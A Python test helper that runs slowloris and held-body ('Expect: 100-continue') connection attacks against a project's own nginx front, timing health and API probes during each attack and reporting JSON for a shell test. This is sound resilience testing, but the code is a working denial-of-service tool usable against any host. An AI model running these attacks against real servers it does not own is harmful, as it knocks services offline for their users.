#!/usr/bin/env python3
"""Connection-level attacks on the nginx front, for tests/nginx/nginx_front_test.sh.

Each subcommand runs its attack, probes the front while the attack is live, and prints one
JSON object with what it saw; the shell test checks it. Every wait is bounded.

  slowloris  N connections that each send a request line, then one header line every
             INTERVAL s and never the blank line; while all N are open, GET /healthz and a
             signed-in GET /api/v1/me are timed; then it waits until the front has closed
             every connection (its header timeout) and says when.
  hold       N requests from one address that each send their headers with
             `Expect: 100-continue` and a Content-Length, and then no body: once the front
             has answered 100 Continue to each (it is reading their bodies, so each counts as
             a request in progress), GET /healthz from that address and from another one.

Use --plain to speak HTTP without TLS (to show what the attack does to the node alone).
"""
import argparse
import json
import select
import socket
import ssl
import sys
import threading
import time


def connect(args, source="127.0.0.1", timeout=5.0):
    raw = socket.create_connection((args.host, args.port), timeout=timeout,
                                   source_address=(source, 0))
    if args.plain:
        return raw
    ctx = ssl.create_default_context(cafile=args.cacert)
    return ctx.wrap_socket(raw, server_hostname=args.server_name)


def get(args, path, source="127.0.0.1", token=None, timeout=10.0):
    """One GET on a fresh connection: (status, seconds), status 0 when nothing answered."""
    start = time.monotonic()
    try:
        s = connect(args, source, timeout)
        s.settimeout(timeout)
        head = f"GET {path} HTTP/1.1\r\nHost: {args.server_name}\r\nConnection: close\r\n"
        if token:
            head += f"Authorization: Bearer {token}\r\n"
        s.sendall((head + "\r\n").encode())
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.") else 0
    except (OSError, ValueError, IndexError):
        status = 0
    return status, round(time.monotonic() - start, 3)


def slowloris(args):
    start = time.monotonic()
    conns = []
    connected = []  # when each connection was open (TCP and TLS)
    for _ in range(args.connections):
        s = connect(args)
        connected.append(time.monotonic())
        s.sendall(f"GET /healthz HTTP/1.1\r\nHost: {args.server_name}\r\n".encode())
        s.setblocking(False)
        conns.append(s)
    connected_after = time.monotonic() - start
    closed_at = [None] * len(conns)   # seconds after the connection opened, when the peer closed
    first_bytes = [b""] * len(conns)  # what the peer sent, if anything, before closing
    opened = time.monotonic()
    probes = {}
    probe_done = threading.Event()

    def probe():
        probes["open_at_probe"] = sum(1 for c in closed_at if c is None)
        probes["healthz"] = get(args, "/healthz", timeout=args.probe_timeout)
        probes["me"] = get(args, "/api/v1/me", token=args.token, timeout=args.probe_timeout)
        probes["open_after_probe"] = sum(1 for c in closed_at if c is None)
        probe_done.set()

    line = 0
    next_line = opened + args.interval
    probe_started = False
    deadline = opened + args.limit
    while time.monotonic() < deadline and any(c is None for c in closed_at):
        now = time.monotonic()
        if now >= next_line:
            line += 1
            for i, s in enumerate(conns):
                if closed_at[i] is None:
                    try:
                        s.send(f"X-Slow-{line}: {'a' * 20}\r\n".encode())
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        pass
                    except OSError:
                        closed_at[i] = now - connected[i]
            next_line += args.interval
            # The probe starts once every connection has sent a header line after its
            # request line: the attack is in full swing.
            if line == 1 and not probe_started:
                probe_started = True
                threading.Thread(target=probe, daemon=True).start()
        live = [s for i, s in enumerate(conns) if closed_at[i] is None]
        readable, _, _ = select.select(live, [], [], max(0.0, min(next_line, deadline) - time.monotonic()))
        for s in readable:
            i = conns.index(s)
            try:
                while True:
                    chunk = s.recv(4096)
                    if not chunk:
                        closed_at[i] = time.monotonic() - connected[i]
                        break
                    first_bytes[i] += chunk
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            except OSError:
                closed_at[i] = time.monotonic() - connected[i]
    probe_done.wait(timeout=args.probe_timeout * 2 + 1)
    for s in conns:
        s.close()
    closed = [c for c in closed_at if c is not None]
    replies = sorted({b.split(b"\r\n", 1)[0].decode("latin-1") for b in first_bytes if b})
    return {
        "connections": len(conns),
        "connected_after_s": round(connected_after, 3),
        "header_lines_sent": line,
        "open_at_probe": probes.get("open_at_probe"),
        "open_after_probe": probes.get("open_after_probe"),
        "healthz": probes.get("healthz"),
        "me": probes.get("me"),
        "closed_by_front": len(closed),
        "first_close_s": round(min(closed), 3) if closed else None,
        "last_close_s": round(max(closed), 3) if closed else None,
        "replies_before_close": replies,
    }


def hold(args):
    held = []
    for _ in range(args.connections):
        s = connect(args, args.source)
        s.settimeout(5.0)
        s.sendall((f"POST {args.path} HTTP/1.1\r\nHost: {args.server_name}\r\n"
                   f"Authorization: Bearer {args.token}\r\nContent-Type: application/json\r\n"
                   "Expect: 100-continue\r\nContent-Length: 100\r\n\r\n").encode())
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        held.append((s, data.split(b"\r\n", 1)[0].decode("latin-1")))
    continued = sum(1 for _, first in held if first == "HTTP/1.1 100 Continue")
    result = {
        "held": len(held),
        "continued": continued,
        "other_replies": sorted({first for _, first in held if first != "HTTP/1.1 100 Continue"}),
        "same_address": get(args, "/healthz", source=args.source),
        "other_address": get(args, "/healthz", source=args.other_source),
    }
    for s, _ in held:
        s.close()
    return result


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["slowloris", "hold"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--server-name", default="localhost")
    p.add_argument("--cacert", help="the front's certificate (PEM) to verify it with")
    p.add_argument("--plain", action="store_true", help="HTTP without TLS")
    p.add_argument("--token", default="")
    p.add_argument("--connections", type=int, default=80)
    p.add_argument("--interval", type=float, default=2.0, help="slowloris: seconds between header lines")
    p.add_argument("--limit", type=float, default=30.0, help="slowloris: give up after this many seconds")
    p.add_argument("--probe-timeout", type=float, default=5.0)
    p.add_argument("--path", default="/api/v1/results", help="hold: the route posted to")
    p.add_argument("--source", default="127.0.0.1", help="hold: the held requests' address")
    p.add_argument("--other-source", default="127.0.0.2", help="hold: another client's address")
    args = p.parse_args()
    result = slowloris(args) if args.attack == "slowloris" else hold(args)
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
